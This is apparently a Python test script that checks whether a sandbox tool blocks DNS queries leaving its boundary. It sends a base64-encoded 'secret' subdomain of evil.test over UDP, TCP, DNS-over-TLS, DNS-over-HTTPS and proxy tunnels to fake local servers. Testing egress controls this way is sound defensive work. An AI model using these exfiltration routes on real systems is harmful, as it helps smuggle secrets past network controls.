#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Ways to ask a name server past the boundary's own resolver, beside name servers that count: the host's (127.0.0.53) and one at
an address of the internet (8.8.8.8), which is on the loopback of a network of its own here.

Usage: egress_dns.py COFFER. Prints one line for each case: what the program said of each way, and what the servers were asked.
The first case is the same program in the same network, outside of a boundary.
"""
import fcntl
import os
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading

sys.dont_write_bytecode = True
import own_network  # noqa: E402

COFFER = sys.argv[1]
FAR = "8.8.8.8"
holder = tempfile.TemporaryDirectory(prefix="dns-")
directory = holder.name
os.chmod(directory, 0o755)
lock = threading.Lock()
counted = {}

# Asks for a name with a secret in it. "answered" is an answer of one of the servers, whatever it says.
CLIENT = r"""
import socket, ssl, struct, sys
def query(name):
    return (b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) +
            b"\0\0\1\0\1")
QUERY = query("c2VjcmV0.evil.test")
def udp(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        s.connect((server, 53))
        s.send(QUERY)
        return code(s.recv(1024))
def code(answer):
    return "answered" if answer[3] & 15 == 0 else "code %d" % (answer[3] & 15)
def tcp(s):
    s.settimeout(20)
    s.sendall(struct.pack(">H", len(QUERY)) + QUERY)
    size = s.recv(2)
    return code(s.recv(1024)) if size else "closed"
def plain(server): return tcp(socket.create_connection((server, 53), 20))
def tls(s, name):
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    return c.wrap_socket(s, server_hostname=name)
def dot(server): return tcp(tls(socket.create_connection((server, 853), 20), server))
def doh(server, s=None):
    t = tls(s or socket.create_connection((server, 443), 20), server)
    t.settimeout(20)
    t.sendall(b"POST /dns-query HTTP/1.1\r\nHost: %s\r\nContent-Type: application/dns-message\r\n"
              b"Content-Length: %d\r\nConnection: close\r\n\r\n" % (server.encode(), len(QUERY)) + QUERY)
    return "answered" if b" 200 " in t.recv(1024) else "closed"
def proxied(server, port):
    s = socket.create_connection(("127.0.0.1", 3128), 20)
    s.settimeout(20)
    s.sendall(b"CONNECT %s:%d HTTP/1.1\r\n\r\n" % (server.encode(), port))
    said = s.recv(1024).split(b"\r\n")[0].decode()
    if " 200 " not in said:
        return said.split(" ")[1]
    if port == 53: return tcp(s)
    return tcp(tls(s, server)) if port == 853 else doh(server, s)
def say(name, f, *words):
    try: said = f(*words)
    except OSError as e: said = "refused"
    print(name + "=" + said.replace(" ", "-"), flush=True)
"""
OUTSIDE = CLIENT + r"""
for name, server in (("near", "127.0.0.53"), ("far", "8.8.8.8")):
    for way in (udp, plain) if name == "near" else (udp, plain, dot, doh):
        say(name + "-" + way.__name__, way, server)
"""
# Inside there is also the proxy, and the server that resolv.conf names.
INSIDE = OUTSIDE + r"""
server = open("/etc/resolv.conf").read().split()[1] if sys.argv[1] == "own" else "192.0.2.53"
say("own-udp", udp, server)
say("own-plain", plain, server)
for host in ("8.8.8.8", "good.test"):
    for port in (53, 853) + ((443,) if host == "8.8.8.8" else ()):
        say("proxied-%s:%d" % (host, port), proxied, host, port)
"""


def count(what):
    with lock:
        counted[what] = counted.get(what, 0) + 1


def asked():
    with lock:
        said = ", ".join(f"{what} {counted[what]}" for what in sorted(counted)) or "nothing"
        counted.clear()
        return said


def answer(query, address="192.0.2.80"):
    end = own_network.question(query)[2]
    return (query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + query[12:end] +
            struct.pack(">HHHIH", 0xC00C, 1, 1, 0, 4) + socket.inet_aton(address))


def serve_udp(label, address):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, 53))

    def loop():
        while True:
            data, peer = s.recvfrom(2048)
            name = own_network.question(data)[0]
            if name != "good.test":
                count(f"{label} udp")
            s.sendto(answer(data, "127.0.0.2"), peer)

    threading.Thread(target=loop, daemon=True).start()


def serve_tcp(label, address, port, context):
    listener = socket.create_server((address, port))

    def serve(connection):
        try:
            connection.settimeout(20)
            if context:
                connection = context.wrap_socket(connection, server_side=True)
            data = connection.recv(4096)
            if port == 443:
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
            elif data:
                said = answer(data[2:])
                connection.sendall(struct.pack(">H", len(said)) + said)
            connection.close()
        except OSError:
            pass

    def loop():
        while True:
            connection, _ = listener.accept()
            count(f"{label} tcp {port}")  # a connection counts, whatever comes
            threading.Thread(target=serve, args=(connection,), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()


def make_context():
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-keyout",
                    "k.pem", "-out", "c.pem", "-days", "2", "-subj", "/CN=dns"], check=True, capture_output=True, cwd=directory)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(directory + "/c.pem", directory + "/k.pem")
    return context


def case(name, words, code, own):
    ended = subprocess.run([*words, "python3", "-c", code, own], capture_output=True, text=True)
    sys.stderr.write(ended.stderr)
    print(f"{name} | {' '.join(ended.stdout.split())} | {asked()}", flush=True)


own_network.enter(directory)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:  # SIOCSIFADDR
    fcntl.ioctl(s, 0x8916, struct.pack("16sHH4s8x", b"lo:1", socket.AF_INET, 0, socket.inet_aton(FAR)))
tls = make_context()
serve_udp("near", "127.0.0.53")
serve_tcp("near", "127.0.0.53", 53, None)
serve_udp("far", FAR)
for port in (53, 853, 443):
    serve_tcp("far", FAR, port, None if port == 53 else tls)
case("outside", [], OUTSIDE, "")
run = [COFFER, "run", "--wall", "120s"]
case("a rule", [*run, "--allow", "good.test", "--"], INSIDE, "own")
case("no rule", [*run, "--"], INSIDE, "")
